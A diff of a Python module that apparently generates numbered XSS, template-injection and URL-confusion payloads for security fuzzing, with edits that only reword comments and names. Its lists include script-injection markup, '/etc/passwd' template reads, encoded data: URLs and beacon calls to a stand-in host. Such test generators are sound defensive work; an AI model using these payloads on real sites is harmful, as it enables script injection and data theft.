@@ -1,7 +1,7 @@
-"""Attacks, made by combining short facts: what breaks out, what carries, what hides, what runs.
+"""Attacks that combine short pieces: one breaks out, one carries, one hides and one runs.
 
-The facts are those of the well-known families (OWASP's and PortSwigger's cheat sheets, DOMPurify's and html5sec's
-lists, CommonMark's raw HTML, mutation XSS, URL torture). Every attack carries its number: what runs says which it was.
+The pieces are those of the well-known families (OWASP's and PortSwigger's cheat sheets, DOMPurify's and html5sec's
+lists, CommonMark's raw HTML, mutation XSS, URL torture). Every attack carries its number, so that code that runs names its attack.
 """
 
 # ruff: noqa: E501 (an attack is read best in one piece)
@@ -13,7 +13,7 @@ from collections.abc import Callable
 from html import escape
 from urllib.parse import quote
 
-CANARY = "canary.example"  # nobody may ask this host for anything
+CANARY = "canary.example"  # no page may request anything from this host
 
 RUN = [
     "__hit({n})", "alert({n})", "top.__hit({n})", "self['__h'+'it']({n})", "__hit`{n}`", "confirm({n})", "print({n})",
@@ -23,7 +23,7 @@ RUN = [
     "navigator.sendBeacon('//canary.example/{n}')", "new Image().src='//canary.example/{n}'",
 ]  # fmt: skip
 
-# What ends the place where a text may stand: element, attribute, comment, script, style, JSON, template, line.
+# Text that ends its context: element, attribute, comment, script, style, JSON, template, line.
 OUT = [
     "", "", "", ">", '">', "'>", '"', "'", "`", '" ', "' ", "</title>", "</script>", "</style>", "</textarea>", "-->",
     "--!>", "]]>", "</p>", "</h1>", "</a>", "</q>", "</svg>", "</math>", "</noscript>", "</template>", "</select>",
@@ -32,7 +32,7 @@ OUT = [
     "),", "]", "&quot;>", "&#34;>", "&#x22>", "%22%3E", "\\u0022>", "\\x22>", "＂＞", "\x0c", "\x0b", "\x85", "\ufeff",
 ]  # fmt: skip
 
-# What runs or loads when it stands in a page as it is; {js} is code, {url} an address that is code or foreign.
+# Markup that runs or loads if a page contains it unescaped; {js} is code, {url} an address that is code or foreign.
 MARKUP = [
     "<script>{js}</script>", "<script src={url}></script>", "<script src=//canary.example/{n}></script>",
     "<script type=module>{js}</script>", "<script/x>{js}</script/x>", "<svg><script>{js}</script></svg>",
@@ -88,7 +88,7 @@ MARKUP = [
     "<?php {js} ?>", "<%= {js} %>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script>",
 ]  # fmt: skip
 
-# What has a meaning to a template, a message, a style sheet, a header, a spreadsheet, a calendar, a shell, a file system.
+# Text that has a meaning to a template, a message, a style sheet, a header, a spreadsheet, a calendar, a shell, a file system.
 OTHER = [
     "{{{{ 7 * 7 }}}}<b onclick={js}>", "{{% include '/etc/passwd' %}}", "{{{{ self.__init__.__globals__ }}}}", "%(brand)s%s%n",
     "{{0.__class__.__mro__}}", "${{7*7}}", "#{{7*7}}", "@import url(//canary.example/{n});", "}} * {{ display: none }} /*",
@@ -125,21 +125,21 @@ _SCHEMES += [
 
 
 def address(dice: random.Random, number: int) -> str:
-    """An address that runs code, or leads to a stranger under a mask."""
+    """An address that runs code, or a foreign one in disguise."""
     js = dice.choice(RUN).format(n=number)
     kind = dice.randrange(4)
     if kind == 0:
         return dice.choice(_SCHEMES) + dice.choice(SCHEME_ENDS) + dice.choice(["", "//%0a", "//\u2028", "/*x*/"]) + js
     if kind == 1:
         page = f"<script>{js}</script>"
-        coded = base64.b64encode(page.encode()).decode()
+        encoded_page = base64.b64encode(page.encode()).decode()
         start = dice.choice(["data:", "DATA:", "da\tta:", "data&colon;", " data:"])
         kinds = ["text/html,", "text/html;charset=utf-8,", "image/svg+xml,", "application/xhtml+xml,", ","]
-        return start + dice.choice([f"text/html;base64,{coded}", *(one + page for one in kinds)])
+        return start + dice.choice([f"text/html;base64,{encoded_page}", *(one + page for one in kinds)])
     return dice.choice(STRANGERS).format(n=number, js=quote(js))
 
 
-# Addresses that look like the shop's, or like none, and are somebody else's; or that no two parsers read alike.
+# Foreign addresses that look like the shop's or like none, and addresses that parsers read differently.
 STRANGERS = [
     "//canary.example/{n}", "\\\\canary.example/{n}", "/\\canary.example/{n}", "/\t/canary.example/{n}", "https:canary.example/{n}",
     "https:/canary.example/{n}", "https:///canary.example/{n}", "https:\\\\canary.example\\{n}", "http://canary.example/{n}",
@@ -215,16 +215,16 @@ HIDE: list[Callable[[str], str]] = [
 
 
 def line(dice: random.Random, number: int) -> str:
-    """An attack for any text, of at most 300 letters as the shortest fields take."""
+    """An attack for any text, of at most 300 letters, which the shortest fields take."""
     if dice.random() < 0.2:
-        made = dice.choice(OUT) + dice.choice(OTHER).format(n=number, js=dice.choice(RUN).format(n=number))
+        attack = dice.choice(OUT) + dice.choice(OTHER).format(n=number, js=dice.choice(RUN).format(n=number))
     else:
-        made = dice.choice(OUT) + markup(dice, number)
-    return made[:300]
+        attack = dice.choice(OUT) + markup(dice, number)
+    return attack[:300]
 
 
 def markup(dice: random.Random, number: int) -> str:
-    """Markup that runs or loads, hidden in one way or another."""
+    """Markup that runs or loads, hidden in a random way."""
     pieces = {"n": number, "js": dice.choice(RUN).format(n=number), "url": address(dice, number)}
     return dice.choice(HIDE)(dice.choice(MARKUP).format(**pieces))
 
